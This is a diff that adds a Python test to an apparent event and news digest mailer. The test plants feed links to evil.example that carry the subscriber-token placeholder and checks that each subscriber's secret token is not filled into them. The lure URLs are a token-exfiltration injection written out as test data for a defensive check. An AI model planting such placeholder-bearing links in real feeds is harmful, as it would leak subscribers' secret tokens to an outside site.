@@ -198,3 +198,29 @@ def test_what_ends_at_midnight_after_several_days_ends_on_that_day() -> None:
     text = render_digest(content, language="fr", base_url=BASE_URL, zone=PARIS, sources=BY_ID,
                          personal=False).text
     assert "* 18 h – lun. 14 déc., 0 h — Hackathon" in text
+
+
+def test_feed_text_cannot_carry_a_subscribers_secret_to_its_site() -> None:
+    """An event or article link holding the placeholder that personal links carry until each
+    subscriber's secret is put in: with a fixed placeholder, every subscriber's email linked
+    to the feed's site with that subscriber's token (which opens their preferences)."""
+    import copy
+
+    from aggregator.digest.message import digest_message
+    from digest_site import event
+
+    written = "SUBSCRIBER-TOKEN-PLACEHOLDER"  # what anyone reading the code would write
+    lure = event("phish", f"Rencontre {written}", "2026-12-08T18:00:00+01:00", None, "Nancy",
+                 "lab")
+    lure["url"] = f"https://evil.example/steal?t={written}&c=SUBSCRIBER-CALENDAR-PLACEHOLDER"
+    news = copy.deepcopy(NEWS)
+    news[0]["link"] = f"https://evil.example/news?t={written}"
+    content = select_digest(WEEK, [decode_event(e) for e in [*EVENTS, lure]],
+                            [decode_item(i) for i in news], BY_ID, PARIS, Filters())
+    digest = render_digest(content, language="fr", base_url=BASE_URL, zone=PARIS, sources=BY_ID)
+    body = digest_message(digest, to="alice@example.org", token="ALICE-SECRET-TOKEN",
+                          mail_from="digest@agenda.example.org", base_url=BASE_URL, week=WEEK,
+                          now=datetime(2026, 12, 7, 7, tzinfo=PARIS)).data.decode()
+    assert "https://evil.example/steal?t=" in body and "ALICE-SECRET-TOKEN" in body
+    assert "evil.example/steal?t=ALICE" not in body and "news?t=ALICE" not in body
+    assert f"{BASE_URL}/unsubscribe/ALICE-SECRET-TOKEN" in body
